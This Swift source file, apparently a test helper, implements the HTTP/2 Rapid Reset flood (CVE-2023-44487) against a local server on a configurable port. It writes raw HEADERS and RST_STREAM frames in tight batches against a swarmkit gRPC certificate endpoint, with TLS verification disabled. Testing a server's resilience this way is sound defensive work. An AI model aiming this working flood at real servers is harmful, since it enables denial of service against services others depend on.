// SPDX-License-Identifier: Apache-2.0

internal import NIOCore
internal import NIOPosix
internal import NIOSSL

/// A client that makes calls and resets each before anybody can answer (CVE-2023-44487).
enum RapidReset {
  private static let group = MultiThreadedEventLoopGroup(numberOfThreads: 1)

  /// Floods one connection until the server closes it.
  static func connect(port: Int, until isOver: @escaping @Sendable () -> Bool) async throws {
    var configuration = TLSConfiguration.makeClientConfiguration()
    configuration.certificateVerification = .none
    configuration.applicationProtocols = ["h2"]
    let context = try NIOSSLContext(configuration: configuration)
    let channel = try await ClientBootstrap(group: self.group)
      .channelInitializer { channel in
        channel.eventLoop.makeCompletedFuture {
          try channel.pipeline.syncOperations.addHandler(NIOSSLClientHandler(context: context, serverHostname: nil))
          try channel.pipeline.syncOperations.addHandler(Sink())
        }
      }
      .connect(host: "127.0.0.1", port: port).get()
    var stream: UInt32 = 1
    do {
      // The preface, and settings without any.
      try await channel.writeAndFlush(
        ByteBuffer(bytes: Array("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".utf8) + [0, 0, 0, 4, 0, 0, 0, 0, 0])
      )
      while !isOver(), channel.isActive {
        var buffer = ByteBuffer()
        for _ in 0..<100 {
          self.frame(type: 1, flags: 4, stream: stream, self.headers, &buffer)
          self.frame(type: 3, flags: 0, stream: stream, [0, 0, 0, 8], &buffer)
          stream += 2
        }
        try await channel.writeAndFlush(buffer)
      }
      try await channel.close()
    } catch {
      // Closed by the server, as it should.
      channel.close(promise: nil)
      try? await channel.closeFuture.get()
    }
  }

  private static func frame(type: UInt8, flags: UInt8, stream: UInt32, _ payload: [UInt8], _ buffer: inout ByteBuffer) {
    buffer.writeBytes([0, UInt8(payload.count >> 8), UInt8(payload.count & 0xFF), type, flags])
    buffer.writeInteger(stream)
    buffer.writeBytes(payload)
  }

  /// A call's headers, in HPACK without its table: POST, https, path, authority, content type, te.
  private static let headers: [UInt8] = {
    func text(_ text: String) -> [UInt8] { [UInt8(text.utf8.count)] + Array(text.utf8) }
    return [0x83, 0x87, 0x04] + text("/docker.swarmkit.v1.CA/GetRootCACertificate") + [0x01] + text("a") + [0x0F, 0x10]
      + text("application/grpc") + [0x00] + text("te") + text("trailers")
  }()

  /// Swallows what the server says.
  private final class Sink: ChannelInboundHandler {
    typealias InboundIn = ByteBuffer
    func channelRead(context: ChannelHandlerContext, data: NIOAny) {}
    func errorCaught(context: ChannelHandlerContext, error: any Error) { context.close(promise: nil) }
  }
}
